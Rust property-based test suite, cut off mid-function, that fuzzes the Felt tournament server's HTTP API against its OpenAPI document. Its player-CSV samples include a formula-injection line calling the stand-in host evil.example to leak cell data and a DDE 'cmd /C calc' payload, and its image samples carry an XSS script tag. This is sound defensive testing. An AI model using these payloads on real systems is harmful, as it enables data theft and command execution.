//! The HTTP API against its own OpenAPI document, property-based and run in CI: the Rust
//! counterpart of schemathesis, on a real server on 127.0.0.1.
//!
//! For every operation of the served `/api/openapi.json`, a seeded generator sends a
//! bounded number of requests built from the document's own schemas: values the schemas
//! allow (types, enums, minimum and maximum) and values they do not (wrong types, out of
//! range, numbers no integer holds, negative, empty, 100 KB strings, missing fields,
//! junk bytes, another content type), with and without the TD token. Every answer must be
//! one the document lists for the operation (and never a 5xx); a JSON answer must match
//! the schema documented for its status (a small validator below reads the part of JSON
//! schema utoipa writes); a refusal is the `{code, message}` body and never echoes a long
//! input back in full; and a request the schemas allow is never refused as unreadable
//! (400). The stream and the files (PDF, CSV) are checked by their content type.
//!
//! The seed is fixed (`FELT_PROPERTY_SEED` picks another); a finding prints the request
//! that found it.

use crate::support;
use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};
use serde_json::{Map, Value, json};
use std::collections::BTreeMap;
use std::time::{Duration, Instant};
use support::Server;

/// Requests sent to each operation.
const PER_OPERATION: usize = 30;
/// A number no 64-bit integer holds.
const HUGE: &str = "99999999999999999999";
/// Marks a JSON string the body text carries as a raw token (a number too big for any
/// JSON library's integers): `"\u0001raw:TOKEN"` becomes `TOKEN`.
const RAW: &str = "\u{1}raw:";
/// Refusals of what fields must agree on, which no JSON schema states (two lists of one
/// length): (operation, how the message starts). A 400 for a request the schemas allow
/// is a finding unless it is one of these.
const AGREEMENTS: &[(&str, &str)] = &[
    ("post /api/chip-race", "others lists "),
    ("post /api/chip-race", "cards lists "),
    ("post /api/chip-race", "give either cards "),
];
/// The longest message a refusal may carry: a refused input is quoted in part only.
const LONGEST_MESSAGE: usize = 2_000;

// ---------------------------------------------------------------------------------------
// The document

/// One operation of the document, as the generator and the checks read it.
struct Operation {
    method: String,
    path: String,
    parameters: Vec<Value>,
    /// The JSON schema of the body, when the operation takes one.
    body: Option<Value>,
    body_required: bool,
    responses: Map<String, Value>,
    needs_token: bool,
    /// The methods its path does not take.
    other_methods: Vec<String>,
}

/// Every method a route could be given.
const METHODS: [&str; 5] = ["get", "post", "put", "patch", "delete"];

fn operations(doc: &Value) -> Vec<Operation> {
    let mut ops = Vec::new();
    for (path, item) in doc["paths"].as_object().expect("paths") {
        for (method, op) in item.as_object().expect("a path item") {
            if !METHODS.contains(&method.as_str()) {
                continue;
            }
            let body = op["requestBody"]["content"]["application/json"]["schema"].clone();
            ops.push(Operation {
                method: method.clone(),
                path: path.clone(),
                parameters: op["parameters"].as_array().cloned().unwrap_or_default(),
                body: (!body.is_null()).then_some(body),
                body_required: op["requestBody"]["required"] == true,
                responses: op["responses"].as_object().cloned().unwrap_or_default(),
                needs_token: op.get("security").is_some(),
                other_methods: METHODS
                    .iter()
                    .filter(|m| item.get(**m).is_none())
                    .map(|m| m.to_string())
                    .collect(),
            });
        }
    }
    ops
}

/// `schema` with its `$ref`s followed.
fn resolve<'a>(doc: &'a Value, mut schema: &'a Value) -> &'a Value {
    while let Some(name) = schema["$ref"].as_str() {
        let name = name
            .strip_prefix("#/components/schemas/")
            .unwrap_or_else(|| panic!("a $ref outside the components: {name}"));
        schema = &doc["components"]["schemas"][name];
        assert!(!schema.is_null(), "no schema {name}");
    }
    schema
}

/// The types a schema allows (`type` as a word or a list); empty when it says none.
fn types(schema: &Value) -> Vec<&str> {
    let mut list: Vec<&str> = match &schema["type"] {
        Value::String(t) => vec![t.as_str()],
        Value::Array(ts) => ts.iter().filter_map(Value::as_str).collect(),
        _ => Vec::new(),
    };
    if schema["nullable"] == true {
        list.push("null");
    }
    list
}

/// The range of an integer schema: its minimum and maximum within its format's.
fn integer_range(schema: &Value) -> (i128, i128) {
    let (mut lo, mut hi) = match schema["format"].as_str() {
        Some("int8") => (i8::MIN as i128, i8::MAX as i128),
        Some("int16") => (i16::MIN as i128, i16::MAX as i128),
        Some("int32") => (i32::MIN as i128, i32::MAX as i128),
        Some("uint8") => (0, u8::MAX as i128),
        Some("uint16") => (0, u16::MAX as i128),
        Some("uint32") => (0, u32::MAX as i128),
        Some("uint64") => (0, u64::MAX as i128),
        _ => (i64::MIN as i128, i64::MAX as i128),
    };
    if let Some(min) = number(&schema["minimum"]) {
        lo = lo.max(min.ceil() as i128);
    }
    if let Some(max) = number(&schema["maximum"]) {
        hi = hi.min(max.floor() as i128);
    }
    (lo, hi)
}

fn number(v: &Value) -> Option<f64> {
    v.as_f64()
}

// ---------------------------------------------------------------------------------------
// The validator: the part of JSON schema utoipa writes

/// Whether `value` matches `schema`; the error names where it does not.
fn validate(doc: &Value, schema: &Value, value: &Value, at: &str) -> Result<(), String> {
    let schema = resolve(doc, schema);
    if let Some(all) = schema["allOf"].as_array() {
        for part in all {
            validate(doc, part, value, at)?;
        }
    }
    if let Some(any) = schema["anyOf"].as_array()
        && !any.iter().any(|s| validate(doc, s, value, at).is_ok())
    {
        return Err(format!("{at}: matches none of anyOf"));
    }
    if let Some(one) = schema["oneOf"].as_array() {
        let results: Vec<Result<(), String>> =
            one.iter().map(|s| validate(doc, s, value, at)).collect();
        let matched = results.iter().filter(|r| r.is_ok()).count();
        if matched != 1 {
            let why: Vec<String> = results.into_iter().filter_map(Result::err).collect();
            return Err(format!(
                "{at}: matches {matched} of oneOf's {} ({})",
                one.len(),
                why.join("; ")
            ));
        }
    }
    if let Some(options) = schema["enum"].as_array()
        && !options.contains(value)
    {
        return Err(format!("{at}: {value} is not one of {options:?}"));
    }
    if let Some(c) = schema.get("const")
        && c != value
    {
        return Err(format!("{at}: {value} is not {c}"));
    }
    let allowed = types(schema);
    if !allowed.is_empty() && !allowed.iter().any(|t| is_type(value, t)) {
        return Err(format!("{at}: {value:.60} is not {allowed:?}"));
    }
    match value {
        Value::Number(n) => {
            let is_integer = allowed.contains(&"integer") && !allowed.contains(&"number");
            if is_integer {
                let v = n
                    .as_i64()
                    .map(i128::from)
                    .or_else(|| n.as_u64().map(i128::from))
                    .ok_or_else(|| format!("{at}: {n} is not a whole number"))?;
                let (lo, hi) = integer_range(schema);
                if v < lo || v > hi {
                    return Err(format!("{at}: {v} is outside {lo}..={hi}"));
                }
            } else if let Some(v) = n.as_f64()
                && (number(&schema["minimum"]).is_some_and(|m| v < m)
                    || number(&schema["maximum"]).is_some_and(|m| v > m))
            {
                return Err(format!("{at}: {v} is out of range"));
            }
        }
        Value::String(s) => {
            let len = s.chars().count() as u64;
            if schema["minLength"].as_u64().is_some_and(|m| len < m)
                || schema["maxLength"].as_u64().is_some_and(|m| len > m)
            {
                return Err(format!("{at}: a string of {len} characters"));
            }
        }
        Value::Array(items) => {
            let len = items.len() as u64;
            if schema["minItems"].as_u64().is_some_and(|m| len < m)
                || schema["maxItems"].as_u64().is_some_and(|m| len > m)
            {
                return Err(format!("{at}: {len} items"));
            }
            let prefix = schema["prefixItems"].as_array();
            for (i, item) in items.iter().enumerate() {
                let item_schema = match prefix.and_then(|p| p.get(i)) {
                    Some(s) => s,
                    None if schema["items"].is_object() => &schema["items"],
                    None if schema["items"] == false => {
                        return Err(format!("{at}: item {i} is one too many"));
                    }
                    None => continue,
                };
                validate(doc, item_schema, item, &format!("{at}/{i}"))?;
            }
        }
        Value::Object(fields) => {
            let properties = schema["properties"].as_object();
            for name in schema["required"].as_array().into_iter().flatten() {
                let name = name.as_str().unwrap_or_default();
                if !fields.contains_key(name) {
                    return Err(format!("{at}: `{name}` is missing"));
                }
            }
            for (name, v) in fields {
                let field_at = format!("{at}/{name}");
                match properties.and_then(|p| p.get(name)) {
                    Some(s) => validate(doc, s, v, &field_at)?,
                    None => match &schema["additionalProperties"] {
                        Value::Bool(false) => return Err(format!("{field_at}: not a field")),
                        extra @ Value::Object(_) => validate(doc, extra, v, &field_at)?,
                        _ => {}
                    },
                }
            }
        }
        _ => {}
    }
    Ok(())
}

fn is_type(v: &Value, t: &str) -> bool {
    match t {
        "null" => v.is_null(),
        "boolean" => v.is_boolean(),
        "object" => v.is_object(),
        "array" => v.is_array(),
        "string" => v.is_string(),
        "number" => v.is_number(),
        "integer" => v.is_i64() || v.is_u64() || v.as_f64().is_some_and(|f| f.fract() == 0.0),
        _ => true,
    }
}

// ---------------------------------------------------------------------------------------
// The generator

/// Values for one operation, drawn from a seeded RNG.
struct Gen<'a> {
    doc: &'a Value,
    rng: StdRng,
    /// Ids of events that exist, so that valid requests reach past the 404.
    events: Vec<i64>,
}

impl Gen<'_> {
    fn chance(&mut self, p: f64) -> bool {
        self.rng.random_bool(p)
    }

    fn pick<'v, T>(&mut self, list: &'v [T]) -> &'v T {
        &list[self.rng.random_range(0..list.len())]
    }

    /// A value `schema` allows.
    fn valid(&mut self, schema: &Value, depth: usize) -> Value {
        let doc = self.doc;
        let schema = resolve(doc, schema);
        if let Some(one) = schema["oneOf"].as_array().or(schema["anyOf"].as_array()) {
            let choice = self.pick(one).clone();
            return self.valid(&choice, depth);
        }
        if let Some(all) = schema["allOf"].as_array() {
            let mut merged = Map::new();
            for part in all {
                if let Value::Object(fields) = self.valid(part, depth) {
                    merged.extend(fields);
                }
            }
            return Value::Object(merged);
        }
        if let Some(options) = schema["enum"].as_array() {
            return self.pick(options).clone();
        }
        let allowed = types(schema);
        let non_null: Vec<&str> = allowed.iter().copied().filter(|t| *t != "null").collect();
        if allowed.contains(&"null") && (non_null.is_empty() || self.chance(0.2)) {
            return Value::Null;
        }
        let t = if non_null.is_empty() {
            "object"
        } else {
            *self.pick(&non_null)
        };
        match t {
            "integer" => {
                let (lo, hi) = integer_range(schema);
                let v = self.integer_in(lo, hi);
                i64::try_from(v)
                    .map(Value::from)
                    .unwrap_or_else(|_| Value::from(v as u64))
            }
            "number" => json!(self.rng.random_range(0.0..1000.0)),
            "boolean" => json!(self.chance(0.5)),
            "string" => json!(self.text()),
            "array" => {
                let min = schema["minItems"].as_u64().unwrap_or(0) as usize;
                let max = schema["maxItems"].as_u64().unwrap_or(4).min(4) as usize;
                let n = if depth > 3 {
                    min
                } else {
                    self.rng.random_range(min..=max.max(min))
                };
                let items = schema["items"].clone();
                Value::Array((0..n).map(|_| self.valid(&items, depth + 1)).collect())
            }
            _ => {
                let mut fields = Map::new();
                let required: Vec<&str> = schema["required"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .filter_map(Value::as_str)
                    .collect();
                for (name, s) in schema["properties"].as_object().into_iter().flatten() {
                    if required.contains(&name.as_str()) || (depth < 3 && self.chance(0.5)) {
                        let v = match self.domain(name) {
                            Some(v) if self.chance(0.6) => v,
                            _ => self.valid(s, depth + 1),
                        };
                        fields.insert(name.clone(), v);
                    }
                }
                Value::Object(fields)
            }
        }
    }

    /// A value a field of this name holds in the room, at and past Felt's limits: series
    /// formulas, CSV files of players, structure drafts, slide images. Schema-valid: the
    /// schema says only "a string" or "an object".
    fn domain(&mut self, field: &str) -> Option<Value> {
        let options: Vec<Value> = match field {
            "expression" => vec![
                json!("10 * math::sqrt(entries / place)"),
                json!(format!("{}place", "-".repeat(40))),
                json!(format!("{}place", "-".repeat(5_000))),
                json!(format!("{}place{}", "(".repeat(6_000), ")".repeat(6_000))),
                json!(format!("{}place{}", "(".repeat(8), ")".repeat(8))),
                json!("1 / (place - 1)"),
                json!("random()"),
            ],
            "csv" => vec![
                json!("name,club\nAnn,Reno\n"),
                json!(
                    "name\n=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")\n@SUM(1+1)\n+cmd|' /C calc'!A0\n\"\t=1+1\"\n"
                ),
                json!("name,club\n\"Ann,Reno\n"),
                json!(format!("name\n{}", "Zoë Ångström\n".repeat(25_000))),
                json!(format!("name\n{}\n", "x".repeat(200))),
            ],
            "draft" => vec![
                json!({"name": "Minimal", "weird\nkey": 1}),
                json!({"name": "Deep", "starting_stack": 9_007_199_254_740_975u64, "table_size": 9,
                       "levels": [{"stakes": "100/200"}]}),
                json!({"name": "Big", "starting_stack": 20000, "table_size": 9,
                       "money": {"currency": "ZZZZ", "buy_in": u64::MAX}}),
                json!({"name": "Minimal", "starting_stack": 10000, "table_size": 9,
                       "games": [{"id": "nlh", "name": "No-Limit Hold'em", "family": "flop", "betting": "no-limit"}],
                       "levels": [{"game": "nlh", "stakes": "100/200"}]}),
            ],
            "data" => {
                let png = |w: u32, h: u32, tail: &[u8]| {
                    let mut b = b"\x89PNG\r\n\x1a\n".to_vec();
                    b.extend(13u32.to_be_bytes());
                    b.extend(b"IHDR");
                    b.extend(w.to_be_bytes());
                    b.extend(h.to_be_bytes());
                    b.extend([8, 6, 0, 0, 0, 0, 0, 0, 0]);
                    b.extend(0u32.to_be_bytes());
                    b.extend(b"IEND");
                    b.extend([0xae, 0x42, 0x60, 0x82]);
                    b.extend(tail);
                    json!(b64(&b))
                };
                vec![
                    png(640, 360, b""),
                    png(60_000, 60_000, b""),
                    png(640, 360, b"<script>alert(1)</script>"),
                    json!(b64(b"\x89PNG\r\n\x1a\n<script>alert(1)</script>")),
                ]
            }
            _ => return None,
        };
        Some(self.pick(&options).clone())
    }

    /// A whole number in `lo..=hi`: mostly small, sometimes at an end of the range.
    fn integer_in(&mut self, lo: i128, hi: i128) -> i128 {
        let small_lo = lo.max(0).min(hi);
        match self.rng.random_range(0..10) {
            0 => lo,
            1 => hi,
            2 => (lo + 1).min(hi),
            _ => small_lo + self.rng.random_range(0..=(hi - small_lo).min(20_000)),
        }
    }

    /// A short string, sometimes empty, sometimes beyond ASCII.
    fn text(&mut self) -> String {
        match self.rng.random_range(0..6) {
            0 => String::new(),
            1 => "Zoë Ångström".into(),
            2 => "a4".into(),
            _ => {
                let n = self.rng.random_range(1..12);
                (0..n)
                    .map(|_| *self.pick(&['a', 'b', 'Z', '7', ' ', '-', '_', 'é']))
                    .collect()
            }
        }
    }

    /// A value `schema` does not allow (or a value a reader trips on): a raw token for
    /// numbers no integer holds.
    fn invalid(&mut self, schema: &Value) -> Value {
        let schema = resolve(self.doc, schema).clone();
        let allowed = types(&schema);
        let mut options: Vec<Value> = vec![
            json!({"x": [1, 2]}),
            json!([]),
            json!(true),
            json!("a".repeat(100_000)),
        ];
        if allowed.contains(&"integer") || allowed.contains(&"number") {
            let (lo, hi) = integer_range(&schema);
            options.extend([
                json!("12"),
                json!(1.5),
                json!(format!("{RAW}{HUGE}")),
                json!(format!("{RAW}-{HUGE}")),
                json!(format!("{RAW}1e400")),
            ]);
            if lo > i64::MIN as i128 {
                options.push(json!(format!("{RAW}{}", lo - 1)));
            }
            if hi < u64::MAX as i128 {
                options.push(json!(format!("{RAW}{}", hi + 1)));
            }
        } else {
            options.extend([json!(-1), json!(0), json!(HUGE.parse::<f64>().unwrap())]);
        }
        if schema["enum"].is_array() || allowed.contains(&"string") {
            options.extend([json!(""), json!("not-a-choice"), json!(7)]);
        }
        if allowed.contains(&"array") {
            options.extend([json!([null]), json!([[]]), json!("1,2")]);
        }
        if allowed.contains(&"object") || allowed.is_empty() {
            options.extend([json!("{}"), json!([{}])]);
        }
        if !allowed.contains(&"null") && !allowed.is_empty() {
            options.push(Value::Null);
        }
        self.pick(&options).clone()
    }

    /// A valid value for `schema` with one part of it spoiled: a field or item replaced by
    /// an invalid value, a required field left out or an unknown one added.
    fn spoiled(&mut self, schema: &Value) -> Value {
        let mut value = self.valid(schema, 0);
        let mut spots = Vec::new();
        spots_of(self.doc, schema, &value, String::new(), &mut spots);
        if spots.is_empty() {
            return self.invalid(schema);
        }
        let (pointer, at_schema) = self.pick(&spots).clone();
        let replacement = match self.rng.random_range(0..6) {
            0 => Replace::Drop,
            1 => Replace::Extra,
            _ => Replace::With(self.invalid(&at_schema)),
        };
        match replacement {
            Replace::With(v) => {
                if let Some(slot) = value.pointer_mut(&pointer) {
                    *slot = v;
                } else {
                    value = v;
                }
            }
            Replace::Drop => {
                let (parent, name) = pointer.rsplit_once('/').unwrap_or(("", ""));
                if let Some(Value::Object(fields)) = value.pointer_mut(parent) {
                    fields.remove(name);
                }
            }
            Replace::Extra => {
                let (parent, _) = pointer.rsplit_once('/').unwrap_or(("", ""));
                if let Some(Value::Object(fields)) = value.pointer_mut(parent) {
                    fields.insert("unknown_field".into(), json!(1));
                }
            }
        }
        value
    }

    /// A value for a path or query parameter: its text, and whether the schema allows it.
    fn parameter(&mut self, p: &Value, valid: bool) -> (String, bool) {
        let schema = p["schema"].clone();
        if valid {
            if p["name"] == "id" && p["in"] == "path" && self.chance(0.8) {
                return (self.pick(&self.events.clone()).to_string(), true);
            }
            let v = plain(&self.valid(&schema, 0));
            // An empty path segment names another URL (`/api/screens/`), not this one.
            if v.is_empty() && p["in"] == "path" {
                return ("a".into(), true);
            }
            return (v, true);
        }
        let options = [
            "abc".to_string(),
            HUGE.to_string(),
            format!("-{HUGE}"),
            "-1".into(),
            "0".into(),
            "1.5".into(),
            String::new(),
            "%FF".into(),
            "%zz".into(),
            "9".repeat(4_000),
            "x".repeat(8_000),
            "Zoë".into(),
        ];
        let mut text = self.pick(&options).clone();
        // An empty path segment names another URL (`/api/screens/`), not this operation.
        if text.is_empty() && p["in"] == "path" {
            text = "abc".into();
        }
        let still_valid = validate(self.doc, &schema, &parsed(&text), "").is_ok()
            && !text.contains('%')
            && !text.is_empty();
        (text, still_valid)
    }
}

enum Replace {
    With(Value),
    Drop,
    Extra,
}

/// Every place in `value` that `schema` describes: (JSON pointer, its schema).
fn spots_of(
    doc: &Value,
    schema: &Value,
    value: &Value,
    at: String,
    out: &mut Vec<(String, Value)>,
) {
    let schema = resolve(doc, schema);
    let branch = schema["oneOf"]
        .as_array()
        .or(schema["anyOf"].as_array())
        .and_then(|alts| alts.iter().find(|s| validate(doc, s, value, "").is_ok()));
    if let Some(branch) = branch {
        return spots_of(doc, branch, value, at, out);
    }
    if let Some(all) = schema["allOf"].as_array() {
        for part in all {
            spots_of(doc, part, value, at.clone(), out);
        }
        return;
    }
    match value {
        Value::Object(fields) => {
            for (name, v) in fields {
                if let Some(s) = schema["properties"].get(name) {
                    let pointer = format!("{at}/{name}");
                    out.push((pointer.clone(), s.clone()));
                    spots_of(doc, s, v, pointer, out);
                }
            }
        }
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                let pointer = format!("{at}/{i}");
                out.push((pointer.clone(), schema["items"].clone()));
                spots_of(doc, &schema["items"], v, pointer, out);
            }
        }
        _ => {}
    }
}

/// A value as a query or path parameter's text (a list as `style=form, explode=false`
/// writes it: comma-separated).
fn plain(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Array(items) => items.iter().map(plain).collect::<Vec<_>>().join(","),
        other => other.to_string(),
    }
}

/// A parameter's text as the JSON value it stands for (a number when it reads as one).
fn parsed(text: &str) -> Value {
    serde_json::from_str::<Value>(text)
        .ok()
        .filter(Value::is_number)
        .unwrap_or_else(|| json!(text))
}

/// Percent-encodes all but the unreserved characters.
fn encode(text: &str) -> String {
    let mut out = String::new();
    for b in text.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The JSON text of `v`, raw tokens written as they are.
fn body_text(v: &Value) -> String {
    let text = v.to_string();
    let marker = "\"\\u0001raw:";
    let mut out = String::new();
    let mut rest = text.as_str();
    while let Some(at) = rest.find(marker) {
        out.push_str(&rest[..at]);
        let after = &rest[at + marker.len()..];
        let end = after.find('"').expect("a raw token ends");
        out.push_str(&after[..end]);
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    out
}

// ---------------------------------------------------------------------------------------
// Requests and checks

/// A request to send, with what the checks need to know of it.
struct Request {
    method: String,
    url: String,
    content_type: Option<&'static str>,
    body: Option<Vec<u8>>,
    token: Token,
    /// Every parameter and the body are allowed by the document, and the token is right
    /// where it is needed: a 400 is a finding.
    schema_valid: bool,
    /// Carries a string of 4,000 characters or more.
    long_input: bool,
    /// Sent with a method the path does not take: a 405 is the answer.
    wrong_method: bool,
}

#[derive(Clone, Copy, PartialEq, Debug)]
enum Token {
    None,
    Wrong,
    Right,
}

impl Request {
    fn describe(&self) -> String {
        let body = self
            .body
            .as_ref()
            .map(|b| {
                String::from_utf8_lossy(b)
                    .chars()
                    .take(200)
                    .collect::<String>()
            })
            .unwrap_or_default();
        let url: String = self.url.chars().take(200).collect();
        format!(
            "{} {url} [{:?} token, {}] {body}",
            self.method.to_uppercase(),
            self.token,
            self.content_type.unwrap_or("no content type")
        )
    }
}

fn build(g: &mut Gen, op: &Operation, server: &Server) -> Request {
    // One part of four requests is spoiled; the rest follows the schemas.
    let spoil = g.chance(0.5);
    let mut spoilable = Vec::new();
    for i in 0..op.parameters.len() {
        spoilable.push(Part::Parameter(i));
    }
    if op.body.is_some() {
        spoilable.push(Part::Body);
        spoilable.push(Part::ContentType);
    }
    spoilable.push(Part::Extra);
    if !op.other_methods.is_empty() {
        spoilable.push(Part::Method);
    }
    let spoiled = if spoil {
        Some(g.pick(&spoilable).clone())
    } else {
        None
    };
    let mut schema_valid = true;
    let mut long_input = false;

    // The path and the query.
    let mut path = op.path.clone();
    let mut query = Vec::new();
    let command_name = op.path.ends_with("/commands/{name}");
    let mut chosen_name = None;
    for (i, p) in op.parameters.iter().enumerate() {
        let name = p["name"].as_str().unwrap();
        let this_spoiled = matches!(spoiled, Some(Part::Parameter(j)) if j == i);
        let leave_out = p["in"] == "query"
            && if this_spoiled {
                g.chance(0.3)
            } else {
                p["required"] != true && g.chance(0.4)
            };
        if leave_out {
            if p["required"] == true {
                schema_valid = false;
            }
            continue;
        }
        let (text, valid) = g.parameter(p, !this_spoiled);
        schema_valid &= valid;
        long_input |= text.len() >= 4_000;
        if name == "name" {
            chosen_name = Some(text.clone());
        }
        let written = if text.starts_with('%') {
            text.clone()
        } else {
            encode(&text)
        };
        if p["in"] == "path" {
            path = path.replace(&format!("{{{name}}}"), &written);
        } else {
            query.push(format!("{name}={written}"));
        }
    }
    if matches!(spoiled, Some(Part::Extra)) {
        // A query parameter the operation does not take, or one given twice.
        if g.chance(0.5) || query.is_empty() {
            query.push("size=zzz".into());
        } else {
            let again = query[0].clone();
            query.push(again);
        }
        schema_valid = false;
    }
    let url = if query.is_empty() {
        server.url(&path)
    } else {
        server.url(&format!("{path}?{}", query.join("&")))
    };

    // The body.
    let (mut content_type, mut body) = (None, None);
    if let Some(schema) = &op.body {
        let schema = if command_name {
            command_fields_schema(g.doc, chosen_name.as_deref()).unwrap_or_else(|| schema.clone())
        } else {
            schema.clone()
        };
        content_type = Some("application/json");
        let value = match spoiled {
            Some(Part::Body) => {
                schema_valid = false;
                match g.rng.random_range(0..8) {
                    0 => {
                        body = Some(junk(&mut g.rng));
                        None
                    }
                    1 => {
                        body = Some(b"{\"unterminated\": ".to_vec());
                        None
                    }
                    2 if op.body_required => {
                        body = Some(Vec::new());
                        None
                    }
                    _ => Some(g.spoiled(&schema)),
                }
            }
            _ => Some(g.valid(&schema, 0)),
        };
        if let Some(v) = value {
            let text = body_text(&v);
            long_input |= text.len() >= 4_000;
            body = Some(text.into_bytes());
        }
        if matches!(spoiled, Some(Part::ContentType)) {
            schema_valid = false;
            content_type = *g.pick(&[
                None,
                Some("text/plain"),
                Some("application/x-www-form-urlencoded"),
            ]);
        }
    }

    // The token.
    let token = if op.needs_token {
        match g.rng.random_range(0..10) {
            0 => Token::None,
            1 => Token::Wrong,
            _ => Token::Right,
        }
    } else if g.chance(0.2) {
        Token::Wrong
    } else {
        Token::None
    };
    if op.needs_token && token != Token::Right {
        schema_valid = false;
    }
    let wrong_method = matches!(spoiled, Some(Part::Method));
    let method = if wrong_method {
        schema_valid = false;
        g.pick(&op.other_methods).clone()
    } else {
        op.method.clone()
    };
    Request {
        method,
        url,
        wrong_method,
        content_type,
        body,
        token,
        schema_valid,
        long_input,
    }
}

#[derive(Clone)]
enum Part {
    Parameter(usize),
    Body,
    ContentType,
    Extra,
    Method,
}

/// The fields of the command named `name` (`POST .../commands/{name}`): its schema in
/// `Command` without `type`.
fn command_fields_schema(doc: &Value, name: Option<&str>) -> Option<Value> {
    let name = name?;
    let variants = doc["components"]["schemas"]["Command"]["oneOf"].as_array()?;
    let variant = variants
        .iter()
        .find(|v| v["properties"]["type"]["enum"][0] == name)?;
    let mut schema = variant.clone();
    schema["properties"].as_object_mut()?.remove("type");
    if let Some(required) = schema["required"].as_array_mut() {
        required.retain(|r| r != "type");
    }
    Some(schema)
}

fn junk(rng: &mut StdRng) -> Vec<u8> {
    let n = rng.random_range(1..64);
    (0..n).map(|_| rng.random::<u8>()).collect()
}

/// How long an answer may take: no request the schemas allow may stall the server.
const PATIENCE: Duration = Duration::from_secs(5);

/// What came back.
struct Answer {
    status: u16,
    content_type: String,
    body: Vec<u8>,
}

/// What became of a request.
enum Sent {
    Answered(Answer),
    /// Refused before its large body was read: the client saw the connection close while
    /// it was still writing, and the server was up after it.
    Unreadable,
    /// No answer in time.
    Silent,
}

/// Sends `req`.
fn send(agent: &ureq::Agent, server: &Server, req: &Request) -> Sent {
    use ureq::http;
    let mut builder = http::Request::builder()
        .method(req.method.to_uppercase().as_str())
        .uri(&req.url);
    match req.token {
        Token::None => {}
        Token::Wrong => builder = builder.header("Authorization", "Bearer not-the-token"),
        Token::Right => {
            builder = builder.header("Authorization", format!("Bearer {}", server.token))
        }
    }
    if let Some(ct) = req.content_type {
        builder = builder.header("Content-Type", ct);
    }
    let request = builder
        .body(req.body.clone().unwrap_or_default())
        .expect("a request");
    let mut response = match agent.run(request.clone()) {
        Ok(r) => r,
        Err(ureq::Error::Timeout(_)) => return Sent::Silent,
        // A pooled keep-alive connection the server had already closed (after answering
        // an earlier request without reading its body): the request never reached the
        // server, so it is sent once more on a fresh connection, as clients do.
        Err(ureq::Error::Io(_)) => match agent.run(request) {
            Ok(r) => r,
            Err(ureq::Error::Timeout(_)) => return Sent::Silent,
            // A refusal sent before a large body was read (no token, a method the path
            // does not take): the server answers and closes while the client is still
            // writing, so the client sees a broken pipe instead of the answer. The server
            // must still be up; the answer itself cannot be read, so the case is skipped.
            Err(ureq::Error::Io(e))
                if req.body.as_ref().is_some_and(|b| b.len() > 4096)
                    && matches!(
                        e.kind(),
                        std::io::ErrorKind::BrokenPipe | std::io::ErrorKind::ConnectionReset
                    ) =>
            {
                let (status, _) = super::support::get(&server.url("/api/health"));
                assert_eq!(
                    status,
                    200,
                    "{}: the server is down after it",
                    req.describe()
                );
                return Sent::Unreadable;
            }
            Err(e) => panic!("{}: {e}", req.describe()),
        },
        Err(e) => panic!("{}: {e}", req.describe()),
    };
    let status = response.status().as_u16();
    let content_type = response
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    // The live stream never ends: its headers are its answer.
    let body = if content_type.starts_with("text/event-stream") {
        Vec::new()
    } else {
        response
            .body_mut()
            .with_config()
            .limit(64 << 20)
            .read_to_vec()
            .unwrap_or_else(|e| panic!("{}: reading the answer: {e}", req.describe()))
    };
    Sent::Answered(Answer {
        status,
        content_type,
        body,
    })
}

/// What is wrong with `answer` to `req`, by kind.
fn check(
    doc: &Value,
    op: &Operation,
    req: &Request,
    answer: &Answer,
) -> Vec<(&'static str, String)> {
    let mut found = Vec::new();
    let status = answer.status.to_string();
    let essence = answer
        .content_type
        .split(';')
        .next()
        .unwrap_or_default()
        .trim()
        .to_string();
    if answer.status >= 500 {
        found.push(("server error (5xx)", String::new()));
    }
    if answer.status >= 400 && essence != "application/json" && !req.wrong_method {
        found.push(("refusal not in JSON", essence.clone()));
    }
    if req.schema_valid && answer.status == 400 {
        let operation = format!("{} {}", op.method, op.path);
        let message = serde_json::from_slice::<Value>(&answer.body).unwrap_or_default()["message"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        let agreement = AGREEMENTS
            .iter()
            .any(|(o, start)| *o == operation && message.starts_with(start));
        if !agreement {
            found.push(("schema-valid request refused (400)", message));
        }
    }
    if req.wrong_method {
        if answer.status != 405 {
            found.push(("another method not answered 405", status));
        } else if let Err(e) = error_body(doc, answer) {
            found.push(("405 without the {code, message} body", e));
        }
        return found;
    }
    let Some(documented) = op.responses.get(&status).or(op.responses.get("default")) else {
        found.push(("status not documented", status));
        return found;
    };
    let content = documented["content"].as_object();
    let Some(content) = content.filter(|c| !c.is_empty()) else {
        return found;
    };
    let Some(media) = content.get(&essence) else {
        found.push((
            "content type not documented",
            format!("{status} {essence}, documented {:?}", content.keys()),
        ));
        return found;
    };
    if essence == "application/json" {
        let value: Value = match serde_json::from_slice(&answer.body) {
            Ok(v) => v,
            Err(e) => {
                found.push(("body is not JSON", e.to_string()));
                return found;
            }
        };
        if let Err(e) = validate(doc, &media["schema"], &value, "") {
            found.push((
                "body does not match its schema",
                format!("{status}: {e:.400}"),
            ));
        }
        if answer.status >= 400 {
            let message = value["message"].as_str().unwrap_or_default();
            if req.long_input && message.chars().count() > LONGEST_MESSAGE {
                found.push((
                    "long input echoed",
                    format!("a message of {} characters", message.chars().count()),
                ));
            }
        }
    }
    found
}

/// Whether `answer` carries the `{code, message}` body.
fn error_body(doc: &Value, answer: &Answer) -> Result<(), String> {
    let value: Value = serde_json::from_slice(&answer.body).map_err(|e| {
        format!(
            "{} {e}: {:.200}",
            answer.content_type,
            String::from_utf8_lossy(&answer.body)
        )
    })?;
    validate(
        doc,
        &json!({"$ref": "#/components/schemas/ErrorBody"}),
        &value,
        "",
    )
}

/// The findings of a run: how many of each kind, and the first few requests of each.
#[derive(Default)]
struct Findings {
    by_kind: BTreeMap<&'static str, Vec<String>>,
    statuses: BTreeMap<u16, usize>,
    requests: usize,
}

impl Findings {
    fn summary(&self) -> String {
        let mut out = format!("{} requests; statuses:", self.requests);
        for (status, n) in &self.statuses {
            out += &format!(" {status}×{n}");
        }
        out += "\n";
        for (kind, examples) in &self.by_kind {
